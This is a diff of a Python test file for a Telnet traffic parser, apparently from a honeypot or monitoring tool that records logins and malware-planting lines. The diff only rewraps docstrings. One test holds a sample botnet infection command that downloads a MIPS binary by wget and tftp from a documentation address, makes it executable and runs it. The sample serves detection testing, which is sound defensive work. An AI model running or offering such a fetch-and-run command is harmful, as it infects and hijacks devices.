@@ -1,4 +1,6 @@
-"""Telnet: banners, logins and their result, lines that plant programs; never a password, nor what else is typed later."""
+"""Telnet: banners, logins and their result, lines that plant programs; never a password, nor what
+else is typed later.
+"""
 
 from __future__ import annotations
 
@@ -56,7 +58,9 @@ def test_prompts_that_name_the_device(shown: bytes, expected: list[tuple[str, st
 
 
 def test_a_program_is_planted() -> None:
-    """The word for the toolbox, and the line that fetches and runs; nothing else of what is typed. Passwords in addresses are left out."""
+    """The word for the toolbox, and the line that fetches and runs; nothing else of what is typed. Passwords in
+    addresses are left out.
+    """
     stream = Telnet().stream(Packet())
     said = [said for packet in of_client(49181) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
     line = "cd /tmp; wget http://203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel"
@@ -139,7 +143,9 @@ def test_results(shown: bytes, result: str) -> None:
 
 
 def test_hanging_up_is_no_answer() -> None:
-    """Where the client goes at the sight of a shell, what the server wrote last tells; where nothing was written, or nobody waits, nothing is told."""
+    """Where the client goes at the sight of a shell, what the server wrote last tells; where nothing was written, or
+    nobody waits, nothing is told.
+    """
     stream = Telnet().stream(Packet())
     said = [said for packet in of_client(49182) for said in stream.feed(packet, packet.payload, packet.dport == 23)]
     assert events([*said, *stream.finish()])[-1] == (
